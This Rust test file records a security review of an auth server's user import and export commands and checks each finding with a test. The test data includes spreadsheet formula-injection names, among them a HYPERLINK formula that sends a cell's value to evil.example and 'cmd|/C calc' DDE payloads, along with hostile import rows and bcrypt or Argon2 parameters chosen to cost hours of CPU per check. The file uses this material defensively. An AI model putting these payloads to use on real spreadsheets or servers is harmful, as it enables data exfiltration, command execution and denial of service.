//! An outside review of `authd user import` / `authd user export` (issue 25), as a careful
//! admin and as whoever writes the import file. Each test that fails shows a real problem: its
//! comment says what it shows and the fix suggested. The passing ones show a rule that holds.

use reqwest::StatusCode;
use serde_json::{Value, json};

use super::transfer::{OLD_PASSWORD, Ran, authd as authd_with_stdin, jsonl, write};
use crate::helpers::{KEK, PASSWORD, SECRET, TempDir, TestApp, wait_until};

fn bcrypt_hash(password: &str, cost: u32) -> String {
    super::transfer::bcrypt_hash(password, cost, "$2b$")
}

async fn authd(app: &TestApp, dir: &TempDir, args: &[&str]) -> Ran {
    authd_with_stdin(app, dir, args, "").await
}

async fn import(app: &TestApp, dir: &TempDir, file: &str, more: &[&str]) -> Ran {
    let mut args = vec!["user", "import", file];
    args.extend_from_slice(more);
    authd(app, dir, &args).await
}

/// Every user as `authd user export --include-password-hashes` (JSON Lines) writes them.
async fn exported(app: &TestApp, dir: &TempDir) -> Vec<Value> {
    super::transfer::exported(app, dir, "jsonl")
        .await
        .lines()
        .map(|line| serde_json::from_str(line).unwrap())
        .collect()
}

async fn exported_user(app: &TestApp, dir: &TempDir, email: &str) -> Value {
    exported(app, dir)
        .await
        .into_iter()
        .find(|u| u["email"] == email)
        .unwrap_or_else(|| panic!("{email} not exported"))
}

/// A login with `password` that ends with tokens at once (no second step).
async fn logs_straight_in(app: &TestApp, email: &str, password: &str) -> bool {
    let response = app.login(email, password).await;
    if response.status() != StatusCode::OK {
        return false;
    }
    let body: Value = response.json().await.unwrap();
    body["access_token"].is_string()
}

// ---------------------------------------------------------------------------------------------
// Rows that should be refused but get in.
// ---------------------------------------------------------------------------------------------

/// Was a finding (high), fixed as suggested below: a bcrypt hash of cost 31 is accepted, while Argon2id and PBKDF2 are bounded
/// to about a second of one core per check (`src/password/imported.rs`). Every login attempt
/// against such an account (with any password, by anyone who knows the address) runs 2^31
/// bcrypt rounds on a hashing thread: at cost 12's quarter second, 2^19 times that, about 36
/// hours. Two wrong passwords on a two-core server pin both hashing threads for a day and a
/// half: no one logs in. One row of a file from a compromised or sloppy source does it; a
/// cost-20 hash (four minutes a check) is no better.
/// Fix: bound an imported bcrypt's cost as the other schemes are bounded, e.g. refuse
/// a cost above max(password.bcrypt_cost + 2, 14) ("bcrypt cost N is over the M authd
/// verifies"), and treat a stored hash past the bound as malformed at login, as
/// `a_stored_hash_past_the_bounds_never_verifies` does for Argon2id.
#[tokio::test]
async fn a_bcrypt_hash_whose_login_would_cost_hours_is_refused() {
    let app = TestApp::spawn().await;
    let dir = TempDir::new("authd-review");
    // A well-formed hash at cost 31 (its bytes do not matter: the row must be refused).
    let cheap = bcrypt_hash(OLD_PASSWORD, 4);
    let rows: Vec<Value> = ["20", "25", "31"]
        .iter()
        .map(|cost| {
            json!({"email": format!("cost{cost}@example.test"),
                   "password_hash": cheap.replacen("$04$", &format!("${cost}$"), 1)})
        })
        .collect();
    let file = write(&dir, "costly.jsonl", jsonl(&rows).as_bytes());
    let ran = import(&app, &dir, &file, &[]).await;
    assert_eq!(ran.code, Some(1), "{}\n{}", ran.stdout, ran.stderr);
    assert!(ran.stdout.contains("0 imported"), "{}", ran.stdout);
}

/// Was a finding (low), fixed as suggested below: the importer turns bytes that are not UTF-8 into U+FFFD
/// (`String::from_utf8_lossy` in `Rows::next`) instead of refusing the row, so a file in
/// Latin-1 (a common export of older systems) imports every accented name as "Ren�e",
/// silently. CSV refuses the same bytes ("the record cannot be read"), so the two formats
/// disagree. Suggested fix: `String::from_utf8` and a refused row "the line is not UTF-8".
#[tokio::test]
async fn a_jsonl_row_that_is_not_utf8_is_refused_rather_than_altered() {
    let app = TestApp::spawn().await;
    let dir = TempDir::new("authd-review");
    let mut line = format!(
        r#"{{"email":"renee@example.test","password_hash":"{}","first_name":"Ren"#,
        bcrypt_hash(OLD_PASSWORD, 4)
    )
    .into_bytes();
    line.extend_from_slice(b"\xe9e\"}\n"); // "Renée" in Latin-1
    let file = write(&dir, "latin1.jsonl", &line);
    let ran = import(&app, &dir, &file, &[]).await;
    let stored = exported(&app, &dir).await;
    assert_eq!(
        ran.code,
        Some(1),
        "imported as {:?}: {}",
        stored.first().map(|u| u["first_name"].clone()),
        ran.stdout
    );
    assert!(stored.is_empty());
}

/// Was a finding (low), fixed as suggested below: a `created_at` in year 1 (a typo for 2001, or a zero date some systems
/// write as 0001-01-01) is taken as it is; only the future is refused. Nothing in authd can
/// predate the Unix epoch, and such a date then sorts first in every export.
/// Fix: refuse a `created_at` before 1970-01-01 ("created_at: is before 1970").
#[tokio::test]
async fn a_created_at_far_in_the_past_is_refused() {
    let app = TestApp::spawn().await;
    let dir = TempDir::new("authd-review");
    let hash = bcrypt_hash(OLD_PASSWORD, 4);
    let rows = [
        json!({"email": "year1@example.test", "password_hash": hash, "created_at": "0001-01-01T00:00:00Z"}),
        json!({"email": "year0@example.test", "password_hash": hash, "created_at": "0000-01-01T00:00:00Z"}),
    ];
    let file = write(&dir, "old.jsonl", jsonl(&rows).as_bytes());
    let ran = import(&app, &dir, &file, &[]).await;
    assert_eq!(ran.code, Some(1), "{}", ran.stdout);
    assert!(exported(&app, &dir).await.is_empty());
}

/// Decided (the review's "CSV injection" finding): the CSV export is data for `authd user
/// import`, not a spreadsheet. A name a spreadsheet would run as a formula (`=HYPERLINK(...)`,
/// `@SUM(...)`, `+1+cmd|...`) is a name registration takes too (the name rules are about what a
/// terminal shows, and a `'` prefix in the export would break the promise that an export
/// imports back unchanged), so it goes out and comes back exactly as it was; the README says
/// not to open the CSV in a spreadsheet (or to import it there as text).
#[tokio::test]
async fn a_name_a_spreadsheet_would_run_as_a_formula_goes_out_and_back_unchanged() {
    let app = TestApp::spawn().await;
    let dir = TempDir::new("authd-review");
    let hash = bcrypt_hash(OLD_PASSWORD, 4);
    let names = [
        "=HYPERLINK(\"https://evil.example/?\"&A1,\"Open\")",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "+1+cmd|' /C calc'!A0",
    ];
    let rows: Vec<Value> = names
        .iter()
        .enumerate()
        .map(|(i, name)| json!({"email": format!("n{i}@example.test"), "password_hash": hash, "first_name": name}))
        .collect();
    let file = write(&dir, "formula.jsonl", jsonl(&rows).as_bytes());
    let ran = import(&app, &dir, &file, &[]).await;
    assert_eq!(ran.code, Some(0), "{}", ran.stderr);
    let csv = authd(
        &app,
        &dir,
        &[
            "user",
            "export",
            "--format",
            "csv",
            "--include-password-hashes",
        ],
    )
    .await
    .stdout;
    let other = TestApp::spawn().await;
    let back = write(&dir, "back.csv", csv.as_bytes());
    assert_eq!(import(&other, &dir, &back, &[]).await.code, Some(0));
    let again = authd(
        &other,
        &dir,
        &[
            "user",
            "export",
            "--format",
            "csv",
            "--include-password-hashes",
        ],
    )
    .await
    .stdout;
    assert_eq!(again, csv);
    for name in names {
        assert!(
            again.contains(&name.replace('"', "\"\"")),
            "{name}: {again}"
        );
    }
}

// ---------------------------------------------------------------------------------------------
// Streaming: memory stays that of a batch.
// ---------------------------------------------------------------------------------------------

/// Feeds `huge` then 1000 short refused rows to `authd user import - --format FORMAT` on
/// standard input, waits (bounded) until the importer reports its first refused row (the huge
/// one: by then it has been read), and returns the importer's peak resident memory in KiB
/// (`VmHWM`), read while it still runs, and what it said on stderr.
#[cfg(target_os = "linux")]
fn peak_rss_kib_after_huge_row(
    db_url: &str,
    dir: &std::path::Path,
    format: &str,
    huge: Vec<Vec<u8>>,
    short_row: fn(usize) -> String,
) -> (u64, String) {
    use std::io::{BufRead, Write};
    use std::process::{Command, Stdio};
    let mut cmd = Command::new(env!("CARGO_BIN_EXE_authd"));
    for (key, _) in std::env::vars_os() {
        if key.to_string_lossy().starts_with("AUTHD_") {
            cmd.env_remove(key);
        }
    }
    let mut child = cmd
        .env_remove("DATABASE_URL")
        .env("AUTHD_JWT__SECRET", SECRET)
        .env("AUTHD_KEYS__ENCRYPTION_KEY", KEK)
        .env("AUTHD_PASSWORD__BCRYPT_COST", "4")
        .env("AUTHD_DATA_DIR", dir)
        .args(["--database-url", db_url])
        .args(["user", "import", "-", "--format", format])
        .stdin(Stdio::piped())
        .stdout(Stdio::null())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let pid = child.id();
    let mut stdin = child.stdin.take().unwrap();
    let (close, closed) = std::sync::mpsc::channel::<()>();
    let writer = std::thread::spawn(move || {
        for chunk in huge {
            if stdin.write_all(&chunk).is_err() {
                return;
            }
        }
        for n in 0..1000 {
            if stdin.write_all(short_row(n).as_bytes()).is_err() {
                return;
            }
        }
        let _ = stdin.flush();
        // Kept open (the importer waits for more) until the memory has been read.
        let _ = closed.recv_timeout(std::time::Duration::from_secs(120));
    });
    let stderr = child.stderr.take().unwrap();
    let mut lines = std::io::BufReader::new(stderr).lines();
    let mut said = String::new();
    let mut peak = None;
    for line in lines.by_ref() {
        let Ok(line) = line else { break };
        said.push_str(&line);
        said.push('\n');
        if line.starts_with("line ") {
            let status = std::fs::read_to_string(format!("/proc/{pid}/status")).unwrap();
            peak = status
                .lines()
                .find_map(|l| l.strip_prefix("VmHWM:"))
                .map(|v| {
                    v.trim()
                        .trim_end_matches("kB")
                        .trim()
                        .parse::<u64>()
                        .unwrap()
                });
            break;
        }
    }
    let _ = close.send(());
    for line in lines.map_while(Result::ok) {
        said.push_str(&line);
        said.push('\n');
    }
    writer.join().unwrap();
    let _ = child.wait();
    let peak = peak.unwrap_or_else(|| panic!("no refused row reported: {said}"));
    (peak, said)
}

/// `count` MiB of `byte`, in chunks of 1 MiB.
fn mebibytes(count: usize, byte: u8) -> Vec<Vec<u8>> {
    (0..count).map(|_| vec![byte; 1 << 20]).collect()
}

const HUGE_MIB: usize = 96;
/// Far below the 96 MiB row, far above what a batch of short rows takes.
const PEAK_LIMIT_KIB: u64 = 64 * 1024;

/// HOLDS: a JSON Lines file of one 96 MiB line with no newline at all (and a long line
/// followed by more) is refused as "longer than 65536 bytes" and never held whole.
#[cfg(target_os = "linux")]
#[tokio::test]
async fn a_jsonl_line_of_96_mib_without_a_newline_is_refused_in_constant_memory() {
    let app = TestApp::spawn().await;
    let dir = TempDir::new("authd-review");
    let (db_url, path) = (app.db_url.clone(), dir.path().to_owned());
    let (peak, said) = tokio::task::spawn_blocking(move || {
        let mut huge = vec![b"{\"email\":\"".to_vec()];
        huge.extend(mebibytes(HUGE_MIB, b'a'));
        huge.push(b"\n".to_vec());
        peak_rss_kib_after_huge_row(&db_url, &path, "jsonl", huge, |n| {
            format!("{{\"email\":\"short{n}@example.test\"}}\n")
        })
    })
    .await
    .unwrap();
    assert!(said.contains("longer than 65536 bytes"), "{said}");
    assert!(peak < PEAK_LIMIT_KIB, "peak {peak} KiB: {said}");
}

/// Was a finding (medium): a 96 MiB CSV field was read whole (246 MiB peak). The CSV reader
/// holds a record whole, so reading now stops a record's allowance past where the record
/// began: the import stops there with exit 1 (a record that long is an unterminated quote, most
/// likely, and nothing after it can be read as records), the rows before it imported, and the
/// importer's peak memory stays far below the field (the kernel's VmHWM of its process, which
/// its summary line says).
#[cfg(target_os = "linux")]
#[tokio::test]
async fn a_csv_field_of_96_mib_stops_the_import_in_constant_memory() {
    let app = TestApp::spawn().await;
    let dir = TempDir::new("authd-review");
    // Written to a file a mebibyte at a time: held in this process, the field would count in
    // the child's peak too (a child starts as a copy of its parent).
    let path = dir.path().join("huge.csv");
    {
        use std::io::Write;
        let mut file = std::io::BufWriter::new(std::fs::File::create(&path).unwrap());
        file.write_all(
            b"email,password\nbefore@example.test,an old but decent passphrase\nhuge@example.test,\"",
        )
        .unwrap();
        let chunk = vec![b'a'; 1 << 20];
        for _ in 0..HUGE_MIB {
            file.write_all(&chunk).unwrap();
        }
        file.write_all(b"\"\nafter@example.test,an old but decent passphrase\n")
            .unwrap();
    }
    let output = crate::helpers::admin_output(
        &app.db_url,
        &dir,
        &["user", "import", path.to_str().unwrap()],
        "",
    )
    .await;
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert_eq!(output.status.code(), Some(1), "{stderr}");
    assert!(
        stderr.contains("line 3: a CSV record runs on for more than 65536 bytes"),
        "{stderr}"
    );
    assert!(
        String::from_utf8_lossy(&output.stdout).contains("1 imported"),
        "the row before it is in: {output:?}"
    );
    // The importer's own peak (the kernel's VmHWM of its process), from its summary line.
    let stdout = String::from_utf8_lossy(&output.stdout);
    let peak_kib: u64 = stdout
        .split("peak memory ")
        .nth(1)
        .and_then(|rest| rest.split(" MiB").next())
        .and_then(|mib| mib.parse::<u64>().ok())
        .unwrap_or_else(|| panic!("no peak memory in {stdout}"))
        * 1024;
    assert!(
        peak_kib < PEAK_LIMIT_KIB,
        "a {HUGE_MIB} MiB CSV field made the importer's peak memory {} MiB",
        peak_kib / 1024
    );
}

// ---------------------------------------------------------------------------------------------
// The errors file.
// ---------------------------------------------------------------------------------------------

/// Was a finding (medium), fixed as suggested below: the errors file holds every refused row as the file gave it, plain
/// `password`s and `password_hash`es included (a row refused for its name or its date still
/// carries them), but it is created with `File::create`, so 0644 under the usual umask: every
/// local user reads them. The export with hashes is created 0600 for this very reason.
/// Fix: create the errors file with `OpenOptions::mode(0o600)` (and `create_new`, as
/// the export does, see the next test), or leave the secret fields out of it.
#[cfg(unix)]
#[tokio::test]
async fn the_errors_file_with_refused_passwords_is_readable_by_its_owner_only() {
    use std::os::unix::fs::PermissionsExt;
    let app = TestApp::spawn().await;
    let dir = TempDir::new("authd-review");
    let rows = [
        json!({"email": "plain@example.test", "password": OLD_PASSWORD, "created_at": "someday"}),
        json!({"email": "hash@example.test", "password_hash": bcrypt_hash(OLD_PASSWORD, 4),
               "first_name": "Ev\u{202e}e"}),
    ];
    let file = write(&dir, "users.jsonl", jsonl(&rows).as_bytes());
    let errors = dir.path().join("refused.jsonl");
    let ran = import(&app, &dir, &file, &["--errors", errors.to_str().unwrap()]).await;
    assert_eq!(ran.code, Some(1), "{}", ran.stderr);
    let written = std::fs::read_to_string(&errors).unwrap();
    assert!(written.contains(OLD_PASSWORD), "{written}");
    let mode = std::fs::metadata(&errors).unwrap().permissions().mode() & 0o777;
    assert_eq!(
        mode & 0o077,
        0,
        "errors file with plain passwords is mode {mode:o}"
    );
}

/// Was a finding (medium, data loss), fixed as suggested below: `--errors` truncates whatever file it names, the input
/// included: `authd user import users.jsonl --errors users.jsonl` (a slip of the shell history)
/// empties the input before a row is read, then reports "0 rows ... 0 refused" and exits 0.
/// The export refuses to overwrite a file ("an existing file is never overwritten"); the errors
/// file does not.
/// Fix: open the errors file with `create_new(true)` (mode 0600), refusing with exit
/// 1 and one line when it exists, or at least refuse when it is the input (same device and
/// inode).
#[tokio::test]
async fn an_errors_file_that_names_the_input_is_refused_and_the_input_survives() {
    let app = TestApp::spawn().await;
    let dir = TempDir::new("authd-review");
    let text = jsonl(&[
        json!({"email": "ada@example.test", "password_hash": bcrypt_hash(OLD_PASSWORD, 4)}),
        json!({"email": "not an address", "password_hash": bcrypt_hash(OLD_PASSWORD, 4)}),
    ]);
    let file = write(&dir, "users.jsonl", text.as_bytes());
    let ran = import(&app, &dir, &file, &["--errors", &file]).await;
    let left = std::fs::read_to_string(&file).unwrap();
    assert_eq!(
        left, text,
        "the input after the import (exit {:?}, {})",
        ran.code, ran.stdout
    );
    assert_eq!(ran.code, Some(1), "{}", ran.stdout);
}

/// Was a finding (low), fixed as suggested below: a line that is not JSON (or is over 64 KiB, or is a CSV record that cannot
/// be read) goes to the errors file as `{"line": N, "error": ...}` only: what the line said is
/// gone, so the errors file cannot be "fixed and re-run" as the issue and README promise. Run
/// as it is, each such record is refused again as "email: is required", and whoever fixes it
/// must go back to the original file by line number.
/// Fix: keep the line's text (as `"text"`, up to the 64 KiB limit) in the record, and
/// say in the README that such records are fixed by rewriting them from it.
#[tokio::test]
async fn a_line_that_is_not_json_keeps_its_text_in_the_errors_file_to_be_fixed() {
    let app = TestApp::spawn().await;
    let dir = TempDir::new("authd-review");
    let hash = bcrypt_hash(OLD_PASSWORD, 4);
    // A trailing comma: the most common hand-edit mistake.
    let broken = format!(r#"{{"email": "ada@example.test", "password_hash": "{hash}",}}"#);
    let file = write(&dir, "users.jsonl", format!("{broken}\n").as_bytes());
    let errors = dir.path().join("refused.jsonl");
    let ran = import(&app, &dir, &file, &["--errors", errors.to_str().unwrap()]).await;
    assert_eq!(ran.code, Some(1), "{}", ran.stderr);
    let written = std::fs::read_to_string(&errors).unwrap();
    assert!(
        written.contains("ada@example.test"),
        "nothing of the line to fix in: {written}"
    );
}

// ---------------------------------------------------------------------------------------------
// --update surprises.
// ---------------------------------------------------------------------------------------------

/// Was a finding (high), fixed as suggested below: with `--update`, a field the row leaves out is not "left as it is" but
/// reset: a missing `two_factor_enabled` turns email codes off, a missing `email_verified`
/// un-verifies the address (and with `require_verified_email` locks the user out), missing
/// names are erased. The README's own recipe from the Python service selects no
/// `email_verified`, and a second run of a file exported elsewhere without the column does
/// the same: every user silently loses their second step, and since the hash did not change
/// their sessions live on and nothing per user is in the audit trail.
/// Fix: with `--update`, overwrite only the fields the row gives (in CSV, the columns
/// the header names); an absent field keeps what is stored. Turning two-factor off by import
/// should take an explicit `false`, and be counted in the summary and the audit event.
#[tokio::test]
async fn update_with_a_row_that_leaves_fields_out_keeps_the_stored_ones() {
    let app = TestApp::spawn().await;
    let dir = TempDir::new("authd-review");
    let hash = bcrypt_hash(OLD_PASSWORD, 4);
    let first = jsonl(&[json!({"email": "ada@example.test", "password_hash": hash,
                                "first_name": "Ada", "last_name": "Lovelace",
                                "two_factor_enabled": true, "email_verified": true})]);
    let first = write(&dir, "first.jsonl", first.as_bytes());
    assert_eq!(import(&app, &dir, &first, &[]).await.code, Some(0));
    // The same user again, the same hash, a file without those columns.
    let again = write(
        &dir,
        "again.jsonl",
        jsonl(&[json!({"email": "ada@example.test", "password_hash": hash})]).as_bytes(),
    );
    let ran = import(&app, &dir, &again, &["--update"]).await;
    assert_eq!(ran.code, Some(0), "{}", ran.stderr);
    let ada = exported_user(&app, &dir, "ada@example.test").await;
    assert!(
        !logs_straight_in(&app, "ada@example.test", OLD_PASSWORD).await,
        "two-factor login was turned off: {ada}"
    );
    assert_eq!(ada["two_factor_enabled"], true, "{ada}");
    assert_eq!(ada["email_verified"], true, "{ada}");
    assert_eq!(ada["first_name"], "Ada", "{ada}");
}

/// Was a finding (medium), fixed as suggested below: "running the same import twice changes nothing the second time" holds
/// only until the users log in. The first login replaces an imported hash of another cost or
/// scheme with a bcrypt at `password.bcrypt_cost` (by design); the same file run again with
/// `--update` (to fix a name, say) then sees a different hash, writes the old one back and ends
/// every session of every user who has logged in since, and a user who changed their password
/// in authd gets the old system's password back.
/// Fix: with `--update`, do not overwrite a hash the user has since replaced: keep
/// the imported hash's fingerprint (or a `password_changed_at`) and overwrite only when the
/// stored hash is still the imported one or the row's hash differs from what was imported;
/// or make hash overwriting a separate, explicit `--update-passwords`.
#[tokio::test]
async fn rerunning_an_import_with_update_after_the_users_logged_in_changes_nothing() {
    let app = TestApp::spawn().await;
    let dir = TempDir::new("authd-review");
    // Cost 5: the first login re-hashes it to the configured 4.
    let rows = jsonl(&[json!({"email": "ada@example.test",
                               "password_hash": bcrypt_hash(OLD_PASSWORD, 5),
                               "first_name": "Ada"})]);
    let file = write(&dir, "users.jsonl", rows.as_bytes());
    assert_eq!(import(&app, &dir, &file, &["--update"]).await.code, Some(0));
    let response = app.login("ada@example.test", OLD_PASSWORD).await;
    assert_eq!(response.status(), StatusCode::OK);
    let body: Value = response.json().await.unwrap();
    let token = body["access_token"].as_str().unwrap().to_owned();
    let upgraded = wait_until(std::time::Duration::from_secs(20), async || {
        exported_user(&app, &dir, "ada@example.test").await["password_hash"]
            .as_str()
            .unwrap()
            .starts_with("$2b$04$")
    })
    .await;
    assert!(upgraded, "the first login re-hashes to the configured cost");
    let ran = import(&app, &dir, &file, &["--update"]).await;
    assert!(
        ran.stdout.contains("0 updated"),
        "the same file again: {}",
        ran.stdout
    );
    let me = app.get_with_token("/users/me", &token).await;
    assert_eq!(me.status(), StatusCode::OK, "her session was ended");
}

// ---------------------------------------------------------------------------------------------
// Export.
// ---------------------------------------------------------------------------------------------

/// Was a finding (high), fixed as suggested below: the export writes `two_factor_enabled` as the email-code flag only, so a
/// user whose second step is an authenticator app (TOTP; the flag is usually false for them)
/// is exported as having no second step at all, and after the round trip the README promises
/// ("imports back ... unchanged") logs in with the password alone. The README says apps are
/// not part of an export, but the user should fall back to email codes, not to nothing.
/// Fix: export `two_factor_enabled` as "has any second factor" (`totp_secret IS NOT
/// NULL OR two_factor_enabled`), so they get email codes after an import, and say so in the
/// README; or add a `second_factor` field and warn on stderr how many app users were exported.
#[tokio::test]
async fn a_user_with_an_authenticator_app_keeps_a_second_step_after_export_and_import() {
    let app = TestApp::spawn().await;
    let dir = TempDir::new("authd-review");
    app.register("ada@example.test", false).await;
    // The app's secret as enrollment leaves it (its bytes do not matter to the export).
    app.db
        .exec(
            "UPDATE users SET totp_secret = '\\x00'::bytea WHERE email = 'ada@example.test'",
            "UPDATE users SET totp_secret = X'00' WHERE email = 'ada@example.test'",
        )
        .await;
    let ada = exported_user(&app, &dir, "ada@example.test").await;
    let file = write(&dir, "export.jsonl", format!("{ada}\n").as_bytes());
    let elsewhere = TestApp::spawn().await;
    assert_eq!(import(&elsewhere, &dir, &file, &[]).await.code, Some(0));
    assert!(
        !logs_straight_in(&elsewhere, "ada@example.test", PASSWORD).await,
        "after the round trip the password alone logs in; exported as {ada}"
    );
}

/// Was a finding (medium), fixed as suggested below: the export has no field for a disabled account, so a user an admin
/// disabled (`authd user disable`) comes back enabled from the round trip the README promises
/// is "unchanged", and logs in on the new server.
/// Fix: export `disabled` (true/false) and have the import read it (an imported
/// disabled user is inserted with `disabled_at` = the import's time; `--update` should not
/// re-enable anyone unless the row says `disabled: false`).
#[tokio::test]
async fn a_disabled_user_stays_disabled_after_export_and_import() {
    let app = TestApp::spawn().await;
    let dir = TempDir::new("authd-review");
    app.register("mallory@example.test", false).await;
    let ran = authd(&app, &dir, &["user", "disable", "mallory@example.test"]).await;
    assert_eq!(ran.code, Some(0), "{}", ran.stderr);
    assert!(!logs_straight_in(&app, "mallory@example.test", PASSWORD).await);
    let mallory = exported_user(&app, &dir, "mallory@example.test").await;
    let file = write(&dir, "export.jsonl", format!("{mallory}\n").as_bytes());
    let elsewhere = TestApp::spawn().await;
    assert_eq!(import(&elsewhere, &dir, &file, &[]).await.code, Some(0));
    assert!(
        !logs_straight_in(&elsewhere, "mallory@example.test", PASSWORD).await,
        "the disabled user logs in after the round trip; exported as {mallory}"
    );
}

// ---------------------------------------------------------------------------------------------
// Rules that hold.
// ---------------------------------------------------------------------------------------------

/// HOLDS: hostile values in every field are refused rows (exit 1, never 2, no panic), and the
/// good row beside them gets in: NUL and control characters, a bidi override, hashes of a
/// wrong shape or of a costly or unverified scheme, an address registration refuses.
#[tokio::test]
async fn hostile_rows_are_refused_with_exit_1_and_the_good_row_beside_them_gets_in() {
    let app = TestApp::spawn().await;
    let dir = TempDir::new("authd-review");
    let hash = bcrypt_hash(OLD_PASSWORD, 4);
    let argon2 = "$argon2id$v=19$m=1024,t=1,p=1$IT9Up4d2Sx1S5kSh1crI0A$YGZ3NmxDi12u0typmobbHYfy+7EbFF7Qj6khDYKz9ek";
    let rows = [
        json!({"email": "nul\u{0}@example.test", "password_hash": hash}),
        json!({"email": "n@example.test", "password_hash": hash, "first_name": "A\u{0}B"}),
        json!({"email": "n2@example.test", "password_hash": hash, "last_name": "A\u{1b}[31mB"}),
        json!({"email": "n3@example.test", "password_hash": format!("{hash}\u{0}")}),
        json!({"email": "n4@example.test", "password": "pass\u{0}word long enough"}),
        json!({"email": "a@b", "password_hash": hash}),
        json!({"email": "x@exa mple.test", "password_hash": hash}),
        json!({"email": "y@example.test", "password_hash": argon2.replacen("m=1024,t=1,p=1", "m=2097152,t=1,p=4", 1)}),
        json!({"email": "z@example.test", "password_hash": argon2.replacen("m=1024,t=1,p=1", "m=65536,t=1000,p=1", 1)}),
        json!({"email": "w@example.test", "password_hash": argon2.replacen("$argon2id$", "$argon2i$", 1)}),
        json!({"email": "v@example.test", "password_hash": "pbkdf2_sha256$4000000000$salt$lqqdoUzoS01PIxiUgvUZyn4gl7mDxW1zzkcoTC+rtRg="}),
        json!({"email": "u@example.test", "password_hash": hash.replacen("$2b$", "$2x$", 1)}),
        json!({"email": "t@example.test", "password_hash": "{SSHA}abcdef"}),
        json!({"email": "s@example.test", "password_hash": hash, "created_at": "2024-02-30T00:00:00Z"}),
        json!({"email": "r@example.test", "password_hash": hash, "created_at": 1_700_000_000}),
        json!({"email": ["list@example.test"], "password_hash": hash}),
        json!({"email": "good@example.test", "password_hash": hash}),
    ];
    let file = write(&dir, "hostile.jsonl", jsonl(&rows).as_bytes());
    let ran = import(&app, &dir, &file, &[]).await;
    assert_eq!(ran.code, Some(1), "{}\n{}", ran.stdout, ran.stderr);
    assert!(
        ran.stdout.contains("1 imported") && ran.stdout.contains("16 refused"),
        "{}\n{}",
        ran.stdout,
        ran.stderr
    );
    let users = exported(&app, &dir).await;
    assert_eq!(users.len(), 1);
    assert_eq!(users[0]["email"], "good@example.test");
}

/// HOLDS: one address in another case, with surrounding spaces, or in another Unicode form
/// (NFD for NFC) in the same file is the same user: the first row gets in, the others meet it.
#[tokio::test]
async fn the_same_address_in_another_case_or_unicode_form_is_one_user() {
    let app = TestApp::spawn().await;
    let dir = TempDir::new("authd-review");
    let rows = [
        json!({"email": "\u{e9}mile@example.test", "password_hash": bcrypt_hash(OLD_PASSWORD, 4)}),
        json!({"email": "E\u{301}MILE@Example.TEST", "password_hash": bcrypt_hash("another passphrase here", 4)}),
        json!({"email": "  \u{c9}mile@EXAMPLE.test ", "password_hash": bcrypt_hash("a third passphrase here", 4)}),
    ];
    let file = write(&dir, "dupes.jsonl", jsonl(&rows).as_bytes());
    let ran = import(&app, &dir, &file, &[]).await;
    assert_eq!(ran.code, Some(0), "{}", ran.stderr);
    assert!(
        ran.stdout.contains("1 imported, 0 updated, 2 skipped"),
        "{}",
        ran.stdout
    );
    assert!(logs_straight_in(&app, "\u{e9}mile@example.test", OLD_PASSWORD).await);
    assert!(!logs_straight_in(&app, "\u{e9}mile@example.test", "another passphrase here").await);
}

/// HOLDS: CSV quoting round trips: names with commas, quotes and `=` survive export and import
/// into an empty database unchanged, and a CSV whose header repeats a column, or a record with
/// a column too many, is a refused row, not a crash.
#[tokio::test]
async fn csv_quoting_round_trips_and_malformed_records_are_refused_rows() {
    let app = TestApp::spawn().await;
    let dir = TempDir::new("authd-review");
    let rows = [
        json!({"email": "ada@example.test", "password_hash": bcrypt_hash(OLD_PASSWORD, 4),
               "first_name": "O'Neil, \"Ada\"", "last_name": "a=b;c,\"\""}),
    ];
    let file = write(&dir, "users.jsonl", jsonl(&rows).as_bytes());
    assert_eq!(import(&app, &dir, &file, &[]).await.code, Some(0));
    let csv = authd(
        &app,
        &dir,
        &[
            "user",
            "export",
            "--format",
            "csv",
            "--include-password-hashes",
        ],
    )
    .await;
    let file = write(&dir, "export.csv", csv.stdout.as_bytes());
    let elsewhere = TestApp::spawn().await;
    assert_eq!(import(&elsewhere, &dir, &file, &[]).await.code, Some(0));
    let again = authd(
        &elsewhere,
        &dir,
        &[
            "user",
            "export",
            "--format",
            "csv",
            "--include-password-hashes",
        ],
    )
    .await;
    assert_eq!(again.stdout, csv.stdout);
    let hash = bcrypt_hash(OLD_PASSWORD, 4);
    let bad = format!(
        "email,password_hash\n\
         one@example.test,{hash},extra\n\
         \"two@example.test,{hash}\n"
    );
    let file = write(&dir, "bad.csv", bad.as_bytes());
    let ran = import(&elsewhere, &dir, &file, &[]).await;
    assert_eq!(ran.code, Some(1), "{}\n{}", ran.stdout, ran.stderr);
}
